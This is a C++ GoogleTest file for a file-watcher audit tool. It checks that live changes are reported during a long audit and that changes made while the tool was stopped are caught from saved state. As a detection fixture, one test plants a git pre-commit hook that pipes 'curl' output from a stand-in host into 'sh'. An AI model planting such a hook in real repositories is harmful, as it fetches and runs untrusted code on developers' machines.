// What is already there when a root is added (`existing`), and what changed while no watcher ran
// (`rescanned`, from the state remembered per root).

#include "WatcherHarness.h"

#include <gtest/gtest.h>

namespace tw::test {
namespace {

using namespace std::chrono_literals;
namespace fs = std::filesystem;

TEST(TwwatchAudit, LiveChangeDuringALongAuditIsNotHeldUp)
{
    constexpr int files = 5000;
    TempDir root;
    fs::create_directories(root / "bulk");
    const auto all = makeFiles(root / "bulk", files);
    Watcher watcher;
    watcher.send({root.path()});
    ASSERT_TRUE(watcher.waitForLine([](const WatchLine& line) { return line.hasType("existing"); }));

    const fs::path live = root / "live.txt";
    writeFile(live, "x");
    // The quiet period is 100 ms; a generous bound still far below the audit's length.
    ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& line) { return line.path == live.string(); }, 2s));
    size_t audited = 0;
    for (const auto& line : watcher.lines())
        audited += line.hasType("existing");
    EXPECT_LT(audited, size_t(files)) << "the audit ended before the live change: nothing was measured";
    EXPECT_TRUE(watcher.waitForPaths(all, 120s));
}

TEST(TwwatchCatchUp, WhatChangedWhileNoWatcherRanIsReported)
{
    struct Case
    {
        const char* state; // what the state file holds at the second start: nullptr as left
        const char* word;  // how the planted hook is reported
        const char* note;  // expected on standard error; empty: no note
    };
    const Case cases[] = {
        {nullptr, "rescanned", ""},
        {"twwatch-state 1\nsoon\n", "existing", "is damaged"},
    };
    // Without the margin, a file left alone since before the first run is past the recorded moment.
    ::setenv("TWWATCH_STATE_MARGIN_MS", "0", 1);
    for (const Case& c : cases) {
        SCOPED_TRACE(c.state ? c.state : "as left");
        TempDir stateHome, repo;
        const fs::path old = repo / "old.txt";
        writeFile(old, "x");
        {
            Watcher first(WatcherSetup{.stateHome = stateHome.path()});
            first.send({repo.path()});
            ASSERT_TRUE(first.waitForWord(old, "existing"));
            first.closeInput();
            ASSERT_EQ(first.waitExit(20s), 0);
        }
        const fs::path stateDir = stateHome / "tarnwick";
        ASSERT_TRUE(fs::exists(stateDir) && !fs::is_empty(stateDir));
        for (const auto& entry : fs::directory_iterator(stateDir)) {
            if (c.state)
                writeFile(entry.path(), c.state);
        }

        // Found by the bundled rules, not only by the test's own.
        const fs::path hook = repo / ".git/hooks/pre-commit";
        fs::create_directories(hook.parent_path());
        writeFile(hook, "#!/bin/sh\ncurl -s http://x.invalid | sh\n");
        fs::permissions(hook, fs::perms(0755));
        Watcher second(WatcherSetup{.stateHome = stateHome.path()});
        second.send({repo.path()});
        ASSERT_TRUE(second.waitForWord(hook, c.word, "git_hook_runs_payload"));
        // A folder is evaluated before the folders in it: the top file's turn has passed by now.
        EXPECT_EQ(second.linesFor(old.string()).empty(), std::string_view(c.word) == "rescanned");
        const std::string errors = second.errors();
        if (*c.note)
            EXPECT_NE(errors.find(c.note), std::string::npos) << errors;
        else
            EXPECT_EQ(errors.find("auditing every file"), std::string::npos) << errors;
    }
    ::unsetenv("TWWATCH_STATE_MARGIN_MS");
}

} // namespace
} // namespace tw::test
